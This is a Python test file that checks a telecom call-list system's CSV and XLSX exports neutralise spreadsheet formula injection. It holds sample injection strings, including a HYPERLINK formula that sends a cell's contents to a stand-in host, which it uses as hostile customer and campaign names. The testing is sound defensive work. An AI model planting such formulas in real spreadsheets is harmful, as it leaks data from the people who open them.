"""Files that cannot carry formulas: every export writes text cells as text.

A customer name (or a campaign name) like ``=HYPERLINK("http://x.example/?"&B2,"点击查看")`` is planted
in the data mart (the config) and the day's real outputs are generated: call lists (CSV and XLSX),
coverage, segment distribution and HQ's outcome report. No XLSX sheet holds an ``<f>`` element, no
CSV cell starts like a formula; the names read back as the text they were, the Chinese name untouched.
"""

from __future__ import annotations

import datetime as dt
from decimal import Decimal

import openpyxl
import pandas as pd
import pytest
import sqlalchemy as sa

from cycle_support import engine_for_param
from export_support import (CHINESE, NAMES, PAYLOADS, assert_no_formula_anywhere, csv_value, formula_cells,
                            read_csv, xlsx_value)
from qz_outbound import (call_lists, campaigns, clock, counties, exports, outcomes, publish, reports, schema,
                         segmentation, targeting)
from qz_outbound.dev.demo_datamart import generate

D = dt.date(2026, 11, 23)


def test_the_export_module_neutralises_text_and_keeps_numbers(tmp_path):
    frame = pd.DataFrame({
        "客户姓名": [*NAMES, "a\x01b", None],
        "金额": [-12.5, 3.0, 0.0, 1.0, 2.0, -0.25, 7.0, 8.0, float("nan")],
        "混合": [Decimal("-5"), "-5", "x", "y", "z", "w", "v", "u", "t"],
        "序号": list(range(1, 10)),
    })
    exports.write_csv(frame, tmp_path / "t.csv")
    rows = read_csv(tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    assert rows[0] == ["客户姓名", "金额", "混合", "序号"]
    assert [r[0] for r in rows[1:8]] == [csv_value(n) for n in NAMES]
    assert [r[0] for r in rows[1:4]] == ['\'=HYPERLINK("http://x.example/?"&B2,"点击查看")', "'+1+1", "'-2+3"]
    assert rows[7][0] == CHINESE                     # untouched
    assert [r[1] for r in rows[1:3]] == ["-12.5", "3.0"] and rows[6][1] == "-0.25"   # numbers stay numbers
    assert rows[1][2] == "-5" and rows[2][2] == "'-5"    # a number in a mixed column vs. a text
    assert len(rows) == 10                          # the CR inside a name did not break a row

    exports.write_xlsx(tmp_path / "t.xlsx", {"名单": frame}, widths={"名单": (12, 8)}, freeze={"名单": "A2"})
    assert formula_cells(tmp_path / "t.xlsx") == 0
    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx")["名单"]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells[:7]] == [xlsx_value(n) for n in NAMES]
    assert all(c.data_type == "s" and c.quotePrefix for c in cells[:6])
    assert cells[6].data_type == "s" and not cells[6].quotePrefix
    assert cells[7].value == "a\ufffdb"             # a control character XML cannot carry, not a failed file
    assert [sheet.cell(r, 2).value for r in (2, 7, 10)] == [-12.5, -0.25, None]
    assert sheet.cell(2, 2).data_type == "n" and sheet.cell(2, 3).value == -5 and sheet.cell(3, 3).value == "-5"
    assert sheet.freeze_panes == "A2" and sheet.column_dimensions["A"].width == 12
    assert assert_no_formula_anywhere(tmp_path) == {"csv": 1, "xlsx": 1}

    # a categorical column is text too
    exports.write_csv(pd.DataFrame({"等级": pd.Categorical(["=A", "B"])}), tmp_path / "cat.csv")
    assert read_csv(tmp_path / "cat.csv")[1:] == [["'=A"], ["B"]]

    # Excel has no time zones: an aware time is written as Asia/Shanghai wall time
    times = pd.DataFrame({"办理时间": pd.to_datetime(["2026-11-23 02:00"]).tz_localize("UTC")})
    exports.write_xlsx(tmp_path / "times.xlsx", {"t": times})
    assert openpyxl.load_workbook(tmp_path / "times.xlsx")["t"]["A2"].value == dt.datetime(2026, 11, 23, 10, 0)


@pytest.fixture(params=["sqlite", "postgresql"])
def hostile_cycle(request, tmp_path, monkeypatch):
    """A day's cycle whose data mart names every customer with one of the hostile names (in turn) and
    whose campaigns carry them as names too."""
    monkeypatch.setenv("QZ_OUTPUT_DIR", str(tmp_path / "out"))
    engine = engine_for_param(request, tmp_path, "qz_exports")
    clock.set_now(dt.datetime(2026, 11, 23, 5, 30))
    generate(engine, 6000, D, progress=False)
    with engine.begin() as conn:
        numbers = list(conn.execute(sa.text("select msisdn from subscriber order by msisdn")).scalars())
        named = {m: NAMES[i % len(NAMES)] for i, m in enumerate(numbers)}
        conn.execute(sa.text("update subscriber set customer_name = :n where msisdn = :m"),
                     [{"n": n, "m": m} for m, n in named.items()])
    library = [c.model_copy(update={"name": NAMES[i % len(NAMES)]})
               for i, c in enumerate(campaigns.load_library())]
    schema.ensure_schema(engine)
    segmentation.segment_customers(engine, engine, D)
    reports.write_distribution_report(engine, D)
    targeting.stage_extracts(engine, engine, D)
    targeting.build_target_list(engine, D, library)
    targeting.write_coverage_report(engine, D)
    for county in counties.county_names():
        publish.publish_county(engine, D, county, library)
    yield engine, library, named, tmp_path / "out"
    clock.set_now(None)
    engine.dispose()


def test_every_daily_export_writes_hostile_names_as_text(hostile_cycle):
    engine, library, named, out = hostile_cycle
    campaign_name = {c.code: c.name for c in library}
    seen_names, seen_campaigns, rows = set(), set(), 0
    for county in counties.county_names():
        result = call_lists.write_call_lists(engine, D, county, library)
        csv_rows = read_csv(out / result["csv"])
        header = csv_rows[0]
        assert header == call_lists.COLUMNS
        sheet = openpyxl.load_workbook(out / result["xlsx"])["外呼清单"]
        xlsx_rows = [[c.value for c in r] for r in sheet.iter_rows(min_row=2)]
        assert len(csv_rows) - 1 == len(xlsx_rows) == result["rows"]
        at = {column: header.index(column) for column in ("手机号码", "客户姓名", "营销活动", "活动编码", "营销口径")}
        for c_row, x_row in zip(csv_rows[1:], xlsx_rows):
            msisdn, code = c_row[at["手机号码"]], c_row[at["活动编码"]]
            name = named[msisdn]
            assert c_row[at["客户姓名"]] == csv_value(name) and x_row[at["客户姓名"]] == xlsx_value(name)
            assert c_row[at["营销活动"]] == csv_value(campaign_name[code]) \
                and x_row[at["营销活动"]] == xlsx_value(campaign_name[code])
            script = x_row[at["营销口径"]]
            assert name in script.replace("\n", "\r") or name.replace("\r", "") in script  # script names them
            seen_names.add(name)
            seen_campaigns.add(campaign_name[code])
        rows += len(xlsx_rows)
    assert rows > 50
    assert seen_names == set(NAMES), "every hostile name should reach some call list"
    assert len(seen_campaigns & set(PAYLOADS)) >= 2
    assert CHINESE in seen_names

    report = outcomes.write_outcome_report(engine, D, library)
    frame = read_csv(out / "reports" / D.isoformat() / "outcomes.csv")
    col = frame[0].index("campaign_name")
    in_report = {r[col] for r in frame[1:]}
    assert {csv_value(n) for n in seen_campaigns} <= in_report and report["rows"] > 0

    checked = assert_no_formula_anywhere(out)
    files = {p.name for p in out.rglob("*") if p.suffix in (".csv", ".xlsx")}
    assert {"coverage.csv", "segment_distribution.csv", "segment_bundling.csv", "outcomes.csv", "outcome_trend.csv",
            "bills.csv", "trajectory_converted.csv"} <= files
    assert checked == {"csv": 7 + len(counties.county_names()), "xlsx": len(counties.county_names())}


def test_no_module_writes_a_spreadsheet_file_around_the_export_module():
    """One way to write a CSV/XLSX a person opens: a new report (economics tables, ...) that calls
    pandas or openpyxl directly would bypass the neutralising. db.py's COPY buffer is not a file."""
    import re
    from pathlib import Path

    package = Path(exports.__file__).parent
    direct = re.compile(r"\.to_csv\(|\.to_excel\(|ExcelWriter|openpyxl\.Workbook|csv\.(?:writer|DictWriter)\(")
    writers = {str(p.relative_to(package.parent)) for folder in (package, package.parent / "plugins",
                                                                 package.parent / "dags")
               for p in folder.rglob("*.py") if direct.search(p.read_text(encoding="utf-8"))}
    assert writers == {"qz_outbound/exports.py", "qz_outbound/db.py"}
